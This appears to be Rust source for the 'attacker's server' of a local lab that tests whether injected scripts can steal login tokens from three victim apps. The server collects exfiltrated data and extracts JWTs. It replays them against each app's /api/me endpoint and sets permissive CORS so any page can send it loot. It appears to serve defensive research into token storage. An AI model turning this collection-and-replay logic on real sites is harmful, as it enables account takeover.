//! The attacker's server. It looks for tokens in everything it receives, and tries each token at the applications. Their
//! answers are the verdict.

use std::collections::BTreeMap;

use axum::{
    Router,
    body::to_bytes,
    extract::{Query, Request, State},
    http::{
        HeaderMap, HeaderValue, Method, StatusCode,
        header::{CONTENT_TYPE, HOST, LOCATION, ORIGIN},
    },
    middleware::{self, Next},
    response::{Html, IntoResponse, Redirect, Response},
    routing::get,
};
use serde::Deserialize;

use super::{Lab, http_client, jwt, purpose::Purpose, responses, victim_app::VictimApp};

/// The most bytes to read of one request.
const MAX_LOOT: usize = 32 << 20;
/// The most tokens to try out of one text.
const MAX_TRIES: usize = 20;

/// What the injected script brings when it ends an attempt by navigating the page to the attacker's server. A Content
/// Security Policy cannot forbid that.
#[derive(Deserialize)]
struct Delivery {
    #[serde(flatten)]
    purpose: Purpose,
    #[serde(default)]
    said: String,
    /// Whether the attack ended by itself.
    #[serde(default)]
    finished: bool,
    /// JSON: everything that looks like a token, by the place where it was found.
    #[serde(default)]
    loot: String,
}

impl Lab {
    /// Returns the router of the attacker's server, which also serves the lab's page.
    pub(super) fn attacker(&self) -> Router {
        Router::new()
            .route("/loot", get(receive_delivery).fallback(receive_anything))
            .merge(Self::dashboard())
            .fallback(receive_anything)
            .layer(middleware::from_fn_with_state(self.clone(), only_own_origin))
            .with_state(self.clone())
    }

    /// Tries every token in `text`, and notes `place` at the attempt that is under way on the token's application, or on
    /// `from` if no application accepts the token.
    async fn try_tokens(&self, place: &str, text: &str, from: Option<VictimApp>) {
        for token in jwt::in_text(text).into_iter().take(MAX_TRIES) {
            let owner = self.accepted_by(token).await;
            let Some(app) = owner.or(from) else { continue };
            let mut run = self.run();
            let Some(attempt) = run.current(app) else { continue };
            if attempt.places.len() < MAX_TRIES {
                attempt.places.insert(place.chars().take(60).collect());
            }
            attempt.is_taken |= owner.is_some();
        }
    }

    /// Returns the application that accepts this token without anything else.
    async fn accepted_by(&self, token: &str) -> Option<VictimApp> {
        if let Some(known) = self.run().tried_tokens.get(token) {
            return *known;
        }
        let mut accepted = None;
        for app in [VictimApp::LocalStorage, VictimApp::Memory, VictimApp::Symbolon] {
            if self.use_token(app, token).await.is_some_and(|(status, _)| status == 200) {
                accepted = Some(app);
                break;
            }
        }
        self.run().tried_tokens.insert(token.to_owned(), accepted);
        accepted
    }

    /// Sends `GET /api/me` to an application with a token, from another client than the person's browser.
    pub(super) async fn use_token(&self, app: VictimApp, token: &str) -> Option<(u16, String)> {
        let bearer = format!("Bearer {token}");
        http_client::get(self.site(app).address, "/api/me", &[("authorization", &bearer)]).await.ok()
    }

    /// Returns the application whose page sent a request, if the browser says its origin.
    fn sender(&self, headers: &HeaderMap) -> Option<VictimApp> {
        let origin = headers.get(ORIGIN)?;
        VictimApp::ALL.into_iter().find(|app| self.site(*app).origin.as_bytes() == origin.as_bytes())
    }
}

/// Answers every request, and tries the tokens in its URL, headers and body.
async fn receive_anything(State(lab): State<Lab>, request: Request) -> Response {
    let (head, body) = request.into_parts();
    let body = to_bytes(body, MAX_LOOT).await.unwrap_or_default();
    let body = String::from_utf8_lossy(&body);
    let from = lab.sender(&head.headers);
    match serde_json::from_str::<BTreeMap<String, Vec<String>>>(&body) {
        Ok(loot) => {
            for (place, texts) in loot {
                lab.try_tokens(&place, &texts.join("\n"), from).await;
            }
        }
        Err(_) => lab.try_tokens("a request to the attacker", &body, from).await,
    }
    let headers = head.headers.iter().map(|(_, value)| String::from_utf8_lossy(value.as_bytes()));
    let head_text = headers.chain([head.uri.to_string().into()]).collect::<Vec<_>>().join("\n");
    lab.try_tokens("a request to the attacker", &head_text, from).await;
    allow_every_origin(&head.headers, answer(&head.method, &head.uri.to_string()))
}

fn answer(method: &Method, url: &str) -> Response {
    let query = Query::<BTreeMap<String, String>>::try_from_uri(&url.parse().unwrap_or_default());
    let back = query.ok().and_then(|Query(mut query)| query.remove("back"));
    match (back, url) {
        (Some(back), _) if method != Method::OPTIONS => {
            (StatusCode::TEMPORARY_REDIRECT, [(LOCATION, back)]).into_response()
        }
        (_, "/ran.js") => responses::script("self.ran = 1"),
        (_, "/pixel.svg") => responses::pixel(),
        _ => responses::text("application/json", "{}"),
    }
}

/// Adds the CORS headers that let every page send every request, and read the answer.
fn allow_every_origin(asked: &HeaderMap, mut answer: Response) -> Response {
    let wanted = asked.get("access-control-request-headers").cloned();
    for (name, value) in [
        ("access-control-allow-origin", HeaderValue::from_static("*")),
        ("access-control-allow-methods", HeaderValue::from_static("*")),
        ("access-control-allow-headers", wanted.unwrap_or(HeaderValue::from_static("*"))),
        ("cross-origin-resource-policy", HeaderValue::from_static("cross-origin")),
    ] {
        answer.headers_mut().insert(name, value);
    }
    answer
}

/// Answers `GET /loot`: a page under attack has navigated here, so its attempt is over.
async fn receive_delivery(State(lab): State<Lab>, Query(delivery): Query<Delivery>) -> Response {
    let loot: BTreeMap<String, Vec<String>> = serde_json::from_str(&delivery.loot).unwrap_or_default();
    if let Some((_, app)) = delivery.purpose.step() {
        let tokens = loot.values().flatten().flat_map(|text| jwt::in_text(text)).map(str::to_owned).collect();
        lab.delete_notes(app, "").await;
        return Html(lab.arrived(app, tokens)).into_response();
    }
    let Some((id, number)) = delivery.purpose.attempt() else { return StatusCode::NOT_FOUND.into_response() };
    let app = {
        let run = lab.run();
        run.attempt(number).filter(|_| run.id == id).map(|attempt| attempt.app)
    };
    let Some(app) = app else { return StatusCode::NOT_FOUND.into_response() };
    for (place, texts) in &loot {
        lab.try_tokens(place, &texts.join("\n"), Some(app)).await;
    }
    let said = delivery.said.chars().take(200).collect();
    let lane = lab.end_attempt(number, delivery.finished, said).await;
    lab.notify();
    match lane {
        Some(lane) => Redirect::to(&format!("/lab/next?run={id}&lane={lane}")).into_response(),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

/// Refuses requests for another host name (DNS rebinding), and orders to the lab from another origin.
async fn only_own_origin(State(lab): State<Lab>, request: Request, next: Next) -> Response {
    let (headers, own) = (request.headers(), &lab.0.attacker);
    let is_own_host =
        headers.get(HOST).is_some_and(|host| host.as_bytes() == own.address.to_string().as_bytes());
    let is_order = request.uri().path().starts_with("/lab") && request.method() != Method::GET;
    let is_own_origin = headers.get(ORIGIN).is_none_or(|origin| origin.as_bytes() == own.origin.as_bytes());
    if !is_own_host || (is_order && !is_own_origin) {
        let why = format!("The lab takes orders from its own page only. Open it at {}/lab.", own.origin);
        return (StatusCode::FORBIDDEN, [(CONTENT_TYPE, "text/plain; charset=utf-8")], why).into_response();
    }
    next.run(request).await
}
